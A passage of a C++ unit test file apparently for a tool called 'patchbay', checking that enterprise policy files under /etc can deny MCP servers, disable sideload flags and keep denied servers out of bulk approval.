  EXPECT_THAT(bad.err, HasSubstr("Cannot add MCP server \"bad\": server is explicitly blocked by enterprise policy"));
  auto other = run_under(house, {"mcp", "add", "other", "--", "x"});
  EXPECT_EQ(other.code, 2);
  EXPECT_THAT(other.err, HasSubstr("Cannot add MCP server \"other\": not allowed by enterprise policy"));
  EXPECT_THAT(house.files_at_home(), IsEmpty());
  auto good = run_under(house, {"mcp", "add", "good", "--", "x"});
  EXPECT_EQ(good.code, 0) << good.err;
}

// compat: B4.25
TEST(Organisation, ThatSwitchesFlagsOffEndsTheCommand) {
  Household house;
  house.tree.file("etc/claude-code/managed-settings.json", R"({"disableSideloadFlags": true})");
  for (const auto& words : {std::vector<std::string>{"--mcp-server", "s=x", "tools"},
                            {"--mcp-config", R"({"s":{"command":"x"}})", "list"},
                            {"--plugin-dir", ".", "doctor", "--offline"}}) {
    const auto ran = run_under(house, words);
    EXPECT_EQ(ran.code, 2) << ran.out;
    EXPECT_THAT(ran.err, HasSubstr("\"disableSideloadFlags\" in ")) << words.front();
    EXPECT_EQ(ran.out, "");
  }
}

TEST(Organisation, WhatItDeniesIsNotApprovedWithTheOthers) {
  Household house;
  house.tree.file("etc/claude-code/managed-settings.json", R"({"deniedMcpServers": [{"serverName": "bad"}]})");
  house.tree.file("project/.mcp.json", R"({"mcpServers": {"bad": {"command": "x"}, "good": {"command": "y"}}})");
  const auto ran = run_under(house, {"approve", "--all"});
  EXPECT_EQ(ran.code, 0) << ran.err;
  EXPECT_THAT(ran.err, HasSubstr("\"bad\" is not approved: "));
  const auto approved = house.own()["projects"][house.project()]["approved"];
  EXPECT_EQ(approved.size(), 1u);
  EXPECT_NE(approved.find("good"), nullptr);
}

// Who is bound by an organisation cannot move its files: the binary looks in /etc alone.
TEST(Organisation, NoVariableSaysWhereItsFilesAre) {
  Household house;
  house.tree.file("etc/claude-code/managed-mcp.json", "{\"mcpServers\": {}}");
  auto options = house.options();
  options.env["PATCHBAY_TEST_ORGANISATION"] = (house.tree.path() / "etc/claude-code").string();
  const auto added = test::run_program({test::built("patchbay"), "mcp", "add", "a", "--", "x"}, options);
  EXPECT_EQ(added.code, 0) << added.err;
}

TEST(Organisation, TheBinaryFindsItsFilesInEtc) {
  NEEDS(namespaces);
  Household house;
  house.tree.file("etc/claude-code/managed-mcp.json", "{\"mcpServers\": {}}");
  std::vector<std::string> words{"/usr/bin/unshare", "--mount", "/bin/sh", "-c"};
  words.push_back("mount --bind " + (house.tree.path() / "etc").string() + " /etc && " + test::built("patchbay") +
                  " mcp add a -- x");
  // Whoever is root already needs no other one, and in a changed root there can be none.
  if (::geteuid() != 0) words.insert(words.begin() + 1, {"--user", "--map-root-user"});
  const auto added = test::run_program(words, house.options());
  EXPECT_EQ(added.code, 2) << added.out;
  EXPECT_THAT(added.err, HasSubstr("enterprise MCP configuration is active"));
}

}  // namespace
}  // namespace patchbay
